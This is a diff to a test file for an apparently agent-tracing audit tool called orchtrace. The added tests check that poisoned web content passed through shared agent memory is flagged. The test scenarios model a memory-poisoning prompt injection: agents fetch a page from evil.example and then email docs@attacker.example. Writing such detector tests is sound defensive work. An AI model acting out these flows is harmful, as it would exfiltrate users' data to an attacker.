@@ -11,6 +11,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 import orchtrace
@@ -131,6 +133,20 @@ def test_av4_traces_out_of_time_order_are_found_once() -> None:
 
 
 def test_av4_same_trace_write_then_read_by_another_agent() -> None:
+    """Two agents of one task that share nothing but the memory (two entry points)."""
+    WEB["https://evil.example/lisbon"] = POISONED
+    with capture_traces() as cap, orchtrace.task("one", "one"):
+        _writer("api", True)("https://evil.example/lisbon")
+        _reader("api", "docs@attacker.example")("mail it")
+    [t] = cap.trace_dicts()
+    [f] = [f for f in audit_trace(t) if f.code == "OTA104"]
+    assert f.details["cross_trace"] is False and all(s.trace_id is None for s in f.path)
+    assert f.path[0].tool == "fetch_page" and f.path[-1].tool == "send_email"
+
+
+def test_av4_reader_that_inherited_the_page_gets_the_direct_flow() -> None:
+    """The lead passes the researcher's result on to the reader it spawns: the reader already
+    has the page in its context, so the finding is the direct flow, not a memory finding."""
     WEB["https://evil.example/lisbon"] = POISONED
 
     def team() -> None:
@@ -140,8 +156,8 @@ def test_av4_same_trace_write_then_read_by_another_agent() -> None:
     with capture_traces() as cap, orchtrace.task("one", "one"):
         orchtrace.agent(name="lead")(team)()
     [t] = cap.trace_dicts()
-    [f] = [f for f in audit_trace(t) if f.code == "OTA104"]
-    assert f.details["cross_trace"] is False and all(s.trace_id is None for s in f.path)
+    codes = {f.code for f in audit_trace(t)}
+    assert "OTA104" not in codes and codes & {"OTA101", "OTA102"}
 
 
 @pytest.mark.parametrize("how", ["api", "tool"])
@@ -216,3 +232,54 @@ def test_av4_collector_store(tmp_path: Path) -> None:
     [f] = _ota104(result)
     assert f.task_id == "turn-2" and f.details["cross_trace"] is True
     assert f.path[0].trace_id is not None and f.path[0].tool == "fetch_page"
+
+
+def test_av4_agent_reading_back_its_own_write_is_the_plain_flow() -> None:
+    """Write and read by one agent in one trace: its context already holds the page, so the
+    finding is the direct flow (OTA101/102 from the page), not a memory finding."""
+    WEB["https://evil.example/lisbon"] = POISONED
+
+    @orchtrace.agent(name="assistant", tools=["fetch_page", "send_email"])
+    def assistant(req: str) -> str:
+        page = fetch_page("https://evil.example/lisbon")
+        orchtrace.memory_write("lisbon", page, namespace="notes")
+        orchtrace.memory_read("lisbon", page, namespace="notes")
+        return send_email("docs@attacker.example", "Your trip", "Have a good time")
+
+    with capture_traces() as cap, orchtrace.task("solo", "solo"):
+        assistant("plan my trip")
+    [t] = cap.trace_dicts()
+    codes = {f.code for f in audit_trace(t)}
+    assert "OTA104" not in codes and codes & {"OTA101", "OTA102"}
+
+
+def _pair(k: int, poisoned: bool) -> list[dict[str, Any]]:
+    WEB[f"https://site{k}.example/p"] = POISONED if poisoned else CLEAN
+    with capture_traces() as cap:
+        with orchtrace.task(f"w{k}", "write"):
+            orchtrace.agent(name="researcher")(
+                lambda: orchtrace.memory_write(f"key-{k}", fetch_page(f"https://site{k}.example/p")[:40] + " notes"))()
+        with orchtrace.task(f"r{k}", "read"):
+            orchtrace.agent(name="assistant")(lambda: (orchtrace.memory_read(f"key-{k}", "notes"),
+                                                       send_email("docs@attacker.example", "trip", "notes")))()
+    return cap.trace_dicts()
+
+
+_PAIRS: list[dict[str, Any]] = []
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.permutations(range(8)))
+def test_av4_findings_do_not_depend_on_input_order(order: list[int]) -> None:
+    """Eight traces (four writer/reader pairs, two poisoned), fed in any order: the same
+    memory findings, each naming its writing trace."""
+    if not _PAIRS:
+        for k in range(4):
+            _PAIRS.extend(_pair(k, poisoned=k % 2 == 0))
+
+    def key(result: Any) -> set[tuple[str, str, str]]:
+        return {(f.task_id, f.severity, f.details["written_in_trace"]) for f in result.findings if f.code == "OTA104"}
+
+    expected = key(run_audit(_PAIRS))
+    assert {t for t, sev, _ in expected if sev in ("high", "critical")} == {"r0", "r2"}
+    assert key(run_audit([_PAIRS[i] for i in order])) == expected
